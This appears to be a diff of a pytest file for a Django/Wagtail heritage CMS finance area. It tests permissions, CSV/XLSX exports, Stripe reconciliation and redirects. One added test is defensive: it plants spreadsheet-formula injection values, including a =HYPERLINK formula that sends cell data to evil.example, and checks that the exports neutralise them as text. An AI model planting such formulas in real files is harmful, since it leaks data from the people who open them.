@@ -1,8 +1,9 @@
-"""The Finance area of the admin: who may see, who may refund or move value, and the CSVs."""
+"""The Finance area of the admin: who may see, who may refund or move value, and the exports."""
 
 import csv
 import io
 
+import openpyxl
 import pytest
 from django.contrib.auth.models import Group
 from wagtail.models import ModelLogEntry
@@ -13,7 +14,7 @@ from heritage_cms.core.money import VND
 from heritage_cms.core.roles import FINANCE
 from heritage_cms.payments.models import CardReplacement, Payment, Refund
 
-from .conftest import deliver, start_top_up
+from .conftest import deliver, new_card, start_top_up
 
 pytestmark = pytest.mark.django_db
 
@@ -27,8 +28,14 @@ def paid(client, sandbox, card, amount=300_000) -> Payment:
 
 
 def rows(response) -> list[list[str]]:
-    assert response["Content-Type"].startswith("text/csv")
-    return list(csv.reader(io.StringIO(response.content.decode().lstrip("\ufeff"))))
+    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
+    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+
+
+def refused(response) -> bool:
+    """Wagtail's answer to staff without the permission: back to the dashboard, with a
+    message."""
+    return response.status_code == 302 and response["Location"] == "/admin/"
 
 
 def test_the_finance_group_is_ensured_with_its_permissions(db):
@@ -44,9 +51,14 @@ def test_only_finance_staff_see_finance_or_refund_or_move_value(
     pages = [
         "/admin/finance/",
         "/admin/finance/payments/",
+        "/admin/finance/payments/?export=csv",
+        "/admin/finance/refunds/",
+        "/admin/finance/refunds/?export=xlsx",
         f"/admin/finance/payments/{payment.pk}/",
         f"/admin/finance/cards/{card.pk}/",
         "/admin/finance/reconciliation/",
+        "/admin/finance/reconciliation/?export=csv",
+        "/admin/finance/?export=xlsx",
     ]
     posts = [
         (f"/admin/finance/payments/{payment.pk}/", {"amount": "300000", "reason": "x"}),
@@ -66,9 +78,9 @@ def test_only_finance_staff_see_finance_or_refund_or_move_value(
         client.force_login(user)
         assert "/admin/finance/" not in client.get("/admin/").content.decode()
         for url in pages:
-            assert client.get(url).status_code == 403, url
+            assert refused(client.get(url)), url
         for url, data in posts:
-            assert client.post(url, data).status_code == 403, url
+            assert refused(client.post(url, data)), url
     client.logout()
     assert client.get("/admin/finance/").status_code == 302  # to the login page
 
@@ -81,7 +93,7 @@ def test_only_finance_staff_see_finance_or_refund_or_move_value(
     )
     client.force_login(reader)
     assert all(client.get(url).status_code == 200 for url in pages)
-    assert all(client.post(url, data).status_code == 403 for url, data in posts)
+    assert all(refused(client.post(url, data)) for url, data in posts)
 
     card.refresh_from_db()
     assert card.status == Card.Status.ACTIVE and not Refund.objects.exists()
@@ -147,10 +159,10 @@ def test_csv_exports_of_revenue_payments_and_reconciliation(client, sandbox, car
     ingest(gate, [TapReport(1, card.number, timezone.now(), "entered", fare=200_000)])
     client.force_login(finance_user)
     today = timezone.localdate().isoformat()
-    revenue = rows(client.get(f"/admin/finance/?from={today}&to={today}&format=csv"))
+    revenue = rows(client.get(f"/admin/finance/?from={today}&to={today}&export=csv"))
     assert revenue[0][:3] == ["day", "site", "fares_vnd"]
     assert revenue[1][:3] == [today, "dai-noi", "200000"]
-    payments = rows(client.get("/admin/finance/payments/?format=csv"))
+    payments = rows(client.get("/admin/finance/payments/?export=csv"))
     assert payments[1][1] == str(payment.reference) and payments[1][5] == "500000"
 
     # A payment Stripe knows but the ledger does not (someone else's session) is flagged.
@@ -163,7 +175,7 @@ def test_csv_exports_of_revenue_payments_and_reconciliation(client, sandbox, car
     )
     sandbox.pay(session["id"])
     deliver(client, sandbox)
-    report = rows(client.get("/admin/finance/reconciliation/?format=csv"))
+    report = rows(client.get("/admin/finance/reconciliation/?export=csv"))
     statuses = {(r[2], r[4], r[7]) for r in report[1:]}
     assert ("charge", "500000", "ok") in statuses
     assert ("charge", "70000", "missing in ledger") in statuses
@@ -190,3 +202,81 @@ def test_reconciliation_agrees_after_payments_refunds_and_a_payout(
         "Stripe and the ledger agree"
         in client.get("/admin/finance/reconciliation/").content.decode()
     )
+
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
+
+
+def _cells(response) -> list[str]:
+    return [cell for row in rows(response)[1:] for cell in row]
+
+
+def _xlsx_cells(response) -> list:
+    assert response.status_code == 200
+    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
+    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
+    return [cell.value for row in sheet.iter_rows(min_row=2) for cell in row]
+
+
+def test_every_finance_export_neutralises_formulas(client, sandbox, card, finance_user):
+    """One hostile value per listing or report: it comes out as text, never as a formula."""
+    from django.utils import timezone
+
+    from heritage_cms.cards.ingest import TapReport, ingest
+    from heritage_cms.cards.models import Gate
+
+    payment = paid(client, sandbox, card, 500_000)
+    Payment.objects.filter(pk=payment.pk).update(stripe_session_id="=1+1")
+    Refund.objects.create(
+        payment=payment, amount=VND(1_000), reason=HYPERLINK, status=Refund.Status.FAILED
+    )
+    gate = Gate.objects.create(name="x", site_code="@SUM(1)", fare=VND(10_000), token_hash="g")
+    ingest(gate, [TapReport(1, card.number, timezone.now(), "entered", fare=10_000)])
+    for bt in sandbox.balance_transactions.values():
+        if bt["type"] == "charge":
+            bt["type"] = "-2+3"
+    client.force_login(finance_user)
+
+    assert "'=1+1" in _cells(client.get("/admin/finance/payments/?export=csv"))
+    assert "'=1+1" in _xlsx_cells(client.get("/admin/finance/payments/?export=xlsx"))
+    assert "'" + HYPERLINK in _cells(client.get("/admin/finance/refunds/?export=csv"))
+    assert "'" + HYPERLINK in _xlsx_cells(client.get("/admin/finance/refunds/?export=xlsx"))
+    today = timezone.localdate().isoformat()
+    revenue = f"/admin/finance/?from={today}&to={today}&export="
+    assert "'@SUM(1)" in _cells(client.get(revenue + "csv"))
+    assert "'@SUM(1)" in _xlsx_cells(client.get(revenue + "xlsx"))
+    assert "'-2+3" in _cells(client.get("/admin/finance/reconciliation/?export=csv"))
+    assert "'-2+3" in _xlsx_cells(client.get("/admin/finance/reconciliation/?export=xlsx"))
+
+
+def test_old_csv_links_lead_to_the_export(client, finance_user):
+    client.force_login(finance_user)
+    response = client.get("/admin/finance/payments/?status=paid&format=csv")
+    assert response.status_code == 302
+    assert response["Location"] == "/admin/finance/payments/?status=paid&export=csv"
+
+
+def test_the_payment_listing_filters_and_links_to_the_refund_page(
+    client, sandbox, card, finance_user
+):
+    payment = paid(client, sandbox, card, 300_000)
+    other = paid(client, sandbox, new_card(), 200_000)
+    Payment.objects.filter(pk=other.pk).update(over_cap=VND(50_000))
+    client.force_login(finance_user)
+    html = client.get("/admin/finance/payments/").content.decode()
+    assert f"/admin/finance/payments/{payment.pk}/" in html
+    assert f"/admin/finance/payments/{other.pk}/" in html
+    assert "/admin/finance/payments/new/" not in html  # nobody adds payments by hand
+    over_cap = client.get("/admin/finance/payments/?over_cap=true").content.decode()
+    assert f"/admin/finance/payments/{other.pk}/" in over_cap
+    assert f"/admin/finance/payments/{payment.pk}/" not in over_cap
+    assert refused(client.get("/admin/finance/payments/new/"))
+    assert refused(client.post(f"/admin/finance/payments/delete/{payment.pk}/"))
+    assert Payment.objects.count() == 2
+
+
+def test_the_finance_menu_is_unchanged_for_finance_staff(client, finance_user):
+    client.force_login(finance_user)
+    html = client.get("/admin/").content.decode()
+    for url in ("/admin/finance/", "/admin/finance/payments/", "/admin/finance/reconciliation/"):
+        assert url in html
